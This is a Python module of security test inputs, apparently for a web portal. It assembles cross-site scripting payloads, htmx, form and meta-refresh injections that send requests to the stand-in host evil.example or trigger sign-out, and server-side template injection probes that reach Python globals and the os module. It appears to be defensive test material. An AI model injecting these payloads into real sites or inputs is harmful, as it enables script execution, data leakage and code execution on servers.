"""Words that want to be more than words: 120 that would run as script (I2), 40 that would have htmx, a form or the
parser send something away (I3), 30 that would be read as a template (I4).

Each is what real holes were opened with: a way out of where the words stand, then what should happen there. Whatever
runs says so with `alert`; whatever leaves goes to evil.example.
"""

from __future__ import annotations

_OUT = (
    *(
        "",
        '">',
        "'>",
        "</textarea>",
        "</title>",
        "</span></p>",
        "--><!-->",
        "]]>",
        "</script>",
        "`>",
        "</select>",
        '\\">',
    ),
)
_RUNS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<iframe srcdoc="<script>parent.alert(1)</script>">',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<script src=//evil.example/x.js></script>",
    "<math><mtext><img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>",
)
#: I2: scripts.
SCRIPTS = tuple(out + runs for out in _OUT for runs in _RUNS)
_LEAVES = (
    '<div hx-get="//evil.example/a" hx-trigger="load">',
    '<div data-hx-get="//evil.example/b" data-hx-trigger="load">',
    '<i data-hx-post="/sign_in/out" data-hx-trigger="load">',
    '<i hx-on::load="alert(1)" data-hx-on:load="alert(1)">',
    '<i data-hx-get="/me/" data-hx-trigger="load[alert(1)]">',
    "<i data-hx-get='/me/' data-hx-trigger=load data-hx-vals='js:{a:alert(1)}'>",
    "<form action=//evil.example><input name=a autofocus>",
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<img src=//evil.example/c><link rel=stylesheet href=//evil.example/d>",
)
#: I3: attributes of htmx, forms, and what the parser follows by itself.
LEAVING = tuple(out + leaves for out in ("", '">', "</textarea>", "</span>") for leaves in _LEAVES)
_COUNTS = (
    *("7*7", "config", "''.__class__.__mro__[1]", "request.application", "self._TemplateReference__context"),
    *("cycler.__init__.__globals__", "url_for.__globals__", "csrf()", "lipsum.__globals__.os", "patient"),
)
#: I4: templates, of this portal and of others.
TEMPLATES = (
    *("{{ " + words + " }}" for words in _COUNTS),
    *("{% print(" + words + ") %}" for words in _COUNTS),
    *("${" + words + "} #{" + words + "} %(" + words + ")s {" + words + "}" for words in _COUNTS),
)
ALL = (*SCRIPTS, *LEAVING, *TEMPLATES)
